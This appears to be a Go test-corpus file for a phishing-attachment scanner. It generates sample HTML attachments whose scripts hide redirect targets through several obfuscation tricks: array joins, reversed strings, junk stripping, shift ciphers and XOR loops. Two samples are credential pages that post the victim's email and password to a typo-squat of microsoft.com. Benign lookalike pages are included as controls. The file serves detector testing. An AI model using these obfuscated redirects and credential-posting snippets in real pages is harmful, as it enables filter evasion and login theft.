package corpus

import (
	"slices"
	"strings"
)

// HTML attachments whose script builds the address it sends the window or
// the password to in the ways kits do and Kensa folds without running
// the script: object properties, array indexes, split/reverse/join,
// replace of defanged or junk-filled text, slice, new URL(path, base), a
// shift cipher mapped over char codes, an XOR loop (over an array, and
// over a string with a repeating key), a timer given code as a string and
// an alias of the location. Each page was run in Chromium (the corpus's
// browser test) to check that it goes where the findings say. Beside
// them, honest pages that use the same constructs for their own ends.

// loadingPage is a redirector's page: a line of text and its script.
func loadingPage(script string) string {
	return "<html><head><meta charset=\"utf-8\"></head><body><p>Loading your document...</p>\r\n<script>\r\n" + script + "\r\n</script></body></html>\r\n"
}

// codesOf writes the character codes of s, each changed by f, as a
// JavaScript array's elements.
func codesOf(s string, f func(i int, c byte) int) string {
	parts := make([]string, len(s))
	for i := 0; i < len(s); i++ {
		parts[i] = itoa(f(i, s[i]))
	}
	return strings.Join(parts, ", ")
}

// reversedOn is s split on sep, reversed and joined with sep again.
func reversedOn(s, sep string) string {
	p := strings.Split(s, sep)
	slices.Reverse(p)
	return strings.Join(p, sep)
}

// interleaved puts junk after every character of s.
func interleaved(s, junk string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		b.WriteByte(s[i])
		b.WriteString(junk)
	}
	return b.String()
}

func htmlFoldCases() []officeCase {
	lookalikeURL := "https://" + redirectLookalike + "/common/oauth2/authorize?client_id=4471"
	const landing = "https://landing.example.net/doc/view?id=4471"
	const key = "kensa"
	xorKeyed := func(s string) string {
		var b strings.Builder
		for i := 0; i < len(s); i++ {
			b.WriteString(hexEscaped(string(s[i] ^ key[i%len(key)])))
		}
		return b.String()
	}
	sendFetchTo := func(target string) string {
		return `document.getElementById("submit-btn").addEventListener("click", function (ev) {` + "\r\n" +
			`  ev.preventDefault();` + "\r\n" +
			`  fetch(` + target + `, {method: "POST", body: "ai=" + encodeURIComponent(document.getElementById("ai").value) + "&pr=" + encodeURIComponent(document.getElementById("pr").value)});` + "\r\n" +
			`});`
	}
	return []officeCase{
		htmlCase("html-redirect-object-props", "HTML attachment that sends the window to an address joined from the properties of an object (cfg.proto + cfg[\"host\"] + cfg.path)",
			"Document_4471.html", loadingPage(`var cfg = {proto: "https://", host: "landing" + ".example" + ".net", path: "/doc/view?id=4471", ready: function () { return true; }};`+"\r\n"+
				`window.location.href = cfg.proto + cfg["host"] + cfg.path;`), "html-redirect-attachment"),
		htmlCase("html-redirect-array-index", "HTML attachment whose timer sends the window to an address joined from the elements of an array (p[0] + p[1] + ...)",
			"Scan_4471.html", loadingPage(`var p = ["ht", "tps:", "//land", "ing.exam", "ple.net", "/doc/view?id=4471"];`+"\r\n"+
				`setTimeout(function () { window.location.replace(p[0] + p[1] + p[2] + p[3] + p[4] + p[5]); }, 200);`), "html-redirect-attachment"),
		htmlCase("html-redirect-split-reversed-lookalike", "HTML attachment that sends the window to a typo-squat of microsoft.com written as its path segments in reverse (.split(\"/\").reverse().join(\"/\"))",
			"Payroll_4471.html", loadingPage(`var r = "`+reversedOn(lookalikeURL, "/")+`";`+"\r\n"+
				`window.location = r.split("/").reverse().join("/");`), "html-redirect-attachment", "lookalike-domain"),
		htmlCase("html-redirect-replace-defanged", "HTML attachment that sends the window to a defanged address made live again by replace (hxxps, [.])",
			"Invoice_4471.html", loadingPage(`var d = "hxxps://landing[.]example[.]net/doc/view?id=4471";`+"\r\n"+
				`location.assign(d.replace("hxxps", "https").replace(/\[\.\]/g, "."));`), "html-redirect-attachment"),
		htmlCase("html-redirect-replace-junk-lookalike", "HTML attachment that sends the window to a typo-squat of microsoft.com hidden among junk characters that a regular expression removes (.replace(/[~^]/g, \"\"))",
			"Remittance_4471.html", loadingPage(`var u = "`+interleaved(lookalikeURL, "~^")+`";`+"\r\n"+
				`window.location.href = u.replace(/[~^]/g, "");`), "html-redirect-attachment", "lookalike-domain"),
		htmlCase("html-redirect-slice", "HTML attachment that sends the window to an address cut out of a padded string (.slice(3, -2))",
			"Statement_4471.html", loadingPage(`var pad = "xq7`+landing+`zz";`+"\r\n"+
				`window.location.replace(pad.slice(3, -2));`), "html-redirect-attachment"),
		htmlCase("html-phish-new-url-lookalike", "HTML login page with no form whose fetch target is new URL(\"/owa/auth.php\", base) on a typo-squat of microsoft.com: the target is judged",
			"Shared_Mailbox.html", phishPage("Outlook", "", phishLogin, sendFetchTo(`new URL("/owa/auth.php", "https://" + "`+redirectLookalike+`")`)), "html-credential-form", "lookalike-domain"),
		htmlCase("html-phish-action-object-lookalike", "HTML login form whose action the script joins from an object's properties, to a typo-squat of microsoft.com: the target is judged",
			"Secure_Login.html", phishPage("Sign in", "", `<div class="box"><form id="lf" action="" method="post"><input type="email" name="u">`+
				`<input type="password" name="p"><button>Sign in</button></form></div>`,
				`var gate = {scheme: "https:", host: "`+redirectLookalike+`", path: "owa/auth.php"};`+"\r\n"+
					`document.getElementById("lf").action = [gate.scheme, "", gate.host, gate.path].join("/");`), "html-credential-form", "lookalike-domain"),
		htmlCase("html-redirect-shift-cipher-lookalike", "HTML attachment that sends the window to a typo-squat of microsoft.com spelled as char codes shifted by 3 (String.fromCharCode(...codes.map(c => c - 3)))",
			"Voice_Message_4471.html", loadingPage(`var codes = [`+codesOf(lookalikeURL, func(_ int, c byte) int { return int(c) + 3 })+`];`+"\r\n"+
				`window.location.href = String.fromCharCode(...codes.map(c => c - 3));`), "html-redirect-attachment", "lookalike-domain"),
		htmlCase("html-redirect-xor-loop-lookalike", "HTML attachment that decodes, in a for loop XOR-ing an array of codes with a literal key, the typo-squat of microsoft.com it sends the window to",
			"Fax_4471.html", loadingPage(`var d = [`+codesOf(lookalikeURL, func(_ int, c byte) int { return int(c ^ 0x2a) })+`], k = 0x2a, u = "";`+"\r\n"+
				`for (var i = 0; i < d.length; i++) { u += String.fromCharCode(d[i] ^ k); }`+"\r\n"+
				`window.location.href = u;`), "html-redirect-attachment", "lookalike-domain"),
		htmlCase("html-redirect-xor-key-string", "HTML attachment that decodes its target from an escaped string XOR-ed with a repeating key (e.charCodeAt(i) ^ key.charCodeAt(i % key.length))",
			"Receipt_4471.html", loadingPage(`var e = "`+xorKeyed(landing)+`";`+"\r\n"+`var key = "`+key+`";`+"\r\n"+`var out = "";`+"\r\n"+
				`for (let i = 0; i < e.length; i++) out = out + String.fromCharCode(e.charCodeAt(i) ^ key.charCodeAt(i % key.length));`+"\r\n"+
				`top.location = out;`), "html-redirect-attachment"),
		htmlCase("html-redirect-reverse-loop-lookalike", "HTML attachment that reads, in a for loop counted down, a backwards string into the typo-squat of microsoft.com it sends the window to",
			"Shipping_4471.html", loadingPage(`var r = "`+reversedOn(lookalikeURL, "")+`", t = "";`+"\r\n"+
				`for (var i = r.length - 1; i >= 0; i--) { t += r.charAt(i); }`+"\r\n"+
				`setTimeout(function () { location.replace(t); }, 250);`), "html-redirect-attachment", "lookalike-domain"),
		htmlCase("html-redirect-decoder-function-lookalike", "HTML attachment whose own decoder function (reverse, then strip junk) turns a literal into the typo-squat of microsoft.com it sends the window to",
			"Notice_4471.html", loadingPage(`function dec(s) { return s.split("").reverse().join("").replace(/~/g, ""); }`+"\r\n"+
				`setTimeout(function () { window.location.href = dec("`+reversedOn(interleaved(lookalikeURL, "~"), "")+`"); }, 200);`), "html-redirect-attachment", "lookalike-domain"),
		htmlCase("html-redirect-map-join", "HTML attachment that sends the window to an address decoded by mapping XOR over char codes and joining ([...].map(function (c) { return String.fromCharCode(c ^ 7); }).join(\"\"))",
			"Order_4471.html", loadingPage(`location.replace([`+codesOf(landing, func(_ int, c byte) int { return int(c ^ 7) })+`].map(function (c) { return String.fromCharCode(c ^ 7); }).join(""));`), "html-redirect-attachment"),
		htmlCase("html-redirect-timer-string", "HTML attachment whose timer is given code as a string that sends the window on (setTimeout(\"window['loc' + 'ation'].replace(...)\", 300))",
			"Delivery_4471.html", loadingPage(`setTimeout("window['loc' + 'ation'].replace('https://' + 'landing.example.net/doc/view?id=4471')", 300);`), "html-redirect-attachment"),
		htmlCase("html-redirect-location-alias", "HTML attachment that sends the window through an alias of the location (var nav = self.location; nav.assign(...))",
			"Contract_4471.html", loadingPage(`var nav = self.location;`+"\r\n"+`nav.assign("https://" + "landing.example.net" + "/doc/view?id=4471");`), "html-redirect-attachment"),
	}
}

// htmlFoldClean are honest pages using the same constructs: a saved shop
// page whose script builds its own CDN and API addresses from a
// configuration object, new URL and replace; an exported report whose
// script builds a table in a loop, formats numbers with replace and
// names columns with String.fromCharCode; and a jQuery-style widget.
func htmlFoldClean() []Sample {
	ok := func(name, about string) Sample { return Sample{Name: name, Clean: true, About: about} }
	var out []Sample
	add := func(s Sample, m mail) { out = append(out, build(s, m)) }
	add(ok("html-saved-page-cdn", "a shop page saved as .html with the classic analytics snippet, whose script builds its own CDN and API addresses from a configuration object, array indexes, new URL and replace; no password field, nothing runs by itself but analytics calls"),
		mail{subject: "Your basket", root: multipart("mixed", text("Your basket, saved as a page.\n"),
			attach("text/html; charset=utf-8", "basket.html", []byte(`<!DOCTYPE html>`+"\r\n"+`<html><head><meta charset="utf-8"><title>Basket</title></head><body><h1>Example Shop</h1>`+
				`<p>3 items, 12,600 JPY.</p><img id="logo" alt="Example Shop"><button id="checkout">Check out</button>`+"\r\n<script>\r\n"+
				`(function (i, s, o, g, r, a, m) { i["GoogleAnalyticsObject"] = r; i[r] = i[r] || function () { (i[r].q = i[r].q || []).push(arguments); }, i[r].l = 1 * new Date(); a = s.createElement(o), m = s.getElementsByTagName(o)[0]; a.async = 1; a.src = g; m.parentNode.insertBefore(a, m); })(window, document, "script", "https://www.google-analytics.com/analytics.js", "ga");`+"\r\n"+
				`ga("create", "UA-0000000-1", "auto"); ga("send", "pageview");`+"\r\n"+
				`var cfg = {cdn: "https://cdn.shop.example.com", api: "https://api.shop.example.com/v2/", locale: "ja-JP"};`+"\r\n"+
				`var sizes = ["small", "medium", "large"];`+"\r\n"+
				`document.getElementById("logo").src = cfg.cdn + "/img/logo-" + sizes[1] + ".png";`+"\r\n"+
				`fetch(new URL("track?page=basket", cfg.api), {method: "POST", keepalive: true});`+"\r\n"+
				`var help = "https://shop.example.com/help/{topic}".replace("{topic}", "basket");`+"\r\n"+
				`document.getElementById("checkout").onclick = function () { location.href = new URL("/checkout", "https://shop.example.com"); };`+"\r\n"+
				"</script></body></html>\r\n")))})
	add(ok("html-report-table-loop", "an exported report (.html) whose script builds its table in a loop, formats prices with replace, names columns with String.fromCharCode in a loop and refreshes a clock with setTimeout given a string"),
		mail{subject: "Monthly report", root: multipart("mixed", text("This month's report.\n"),
			attach("text/html; charset=utf-8", "monthly-report.html", []byte("<html><head><title>Report</title></head><body><h1>Monthly sales</h1><p id=\"clock\"></p><table id=\"t\"></table>\r\n<script>\r\n"+
				`var rows = [["Brass fittings", 1250.5], ["Copper pipe", 980], ["Valves", 4410.25]];`+"\r\n"+
				`var cols = "";`+"\r\n"+
				`for (var c = 0; c < 3; c++) { cols += String.fromCharCode(65 + c); }`+"\r\n"+
				`var html = "<tr><th>" + cols.split("").join("</th><th>") + "</th></tr>";`+"\r\n"+
				`for (var i = 0; i < rows.length; i++) { html += "<tr><td>" + rows[i][0] + "</td><td>" + rows[i][1].toFixed(2).replace(".", ",") + " JPY</td></tr>"; }`+"\r\n"+
				`document.getElementById("t").innerHTML = html;`+"\r\n"+
				`function tick() { document.getElementById("clock").textContent = new Date().toLocaleTimeString(); }`+"\r\n"+
				`setTimeout("tick()", 1000);`+"\r\n"+
				"</script></body></html>\r\n")))})
	add(ok("html-jquery-widget", "a page saved as .html with jQuery-style code: options objects, ajax to the shop's own API, split/map/join of literals, a button that opens the shop"),
		mail{subject: "Store locator", root: multipart("mixed", text("The store locator, as a page.\n"),
			attach("text/html; charset=utf-8", "stores.html", []byte("<html><head><title>Stores</title></head><body><h1>Our stores</h1><ul id=\"list\"></ul><button id=\"shop\">Visit the shop</button>\r\n<script>\r\n"+
				`var $ = function (sel) { return document.querySelector(sel); };`+"\r\n"+
				`var opts = {url: "https://api.shop.example.com/stores", type: "GET", cities: "Osaka,Kobe,Kyoto"};`+"\r\n"+
				`var items = "Osaka,Kobe,Kyoto".split(",").map(function (c) { return "<li>" + c + "</li>"; }).join("");`+"\r\n"+
				`$("#list").innerHTML = "<li>Osaka</li><li>Kobe</li><li>Kyoto</li>";`+"\r\n"+
				`fetch(opts.url + "?cities=" + encodeURIComponent(opts.cities)).catch(function () {});`+"\r\n"+
				`$("#shop").onclick = function () { window.location.href = ["https:", "", "shop.example.com", "stores"].join("/"); };`+"\r\n"+
				"</script></body></html>\r\n")))})
	return out
}
